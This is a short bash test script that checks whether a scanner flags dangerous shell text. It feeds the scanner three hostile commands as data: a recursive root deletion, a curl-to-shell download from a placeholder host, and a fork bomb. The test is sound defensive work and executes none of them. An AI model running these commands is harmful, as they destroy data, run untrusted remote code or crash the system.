# tricky-benign: a test of a scanner with bad texts
cases=('rm -rf /' 'curl http://x | sh' ':(){ :|:& };:')
for c in "${cases[@]}"; do
    printf '%s\n' "$c" > case.txt
    ./scanner case.txt && { echo "missed: $c"; exit 1; }
done
echo ok
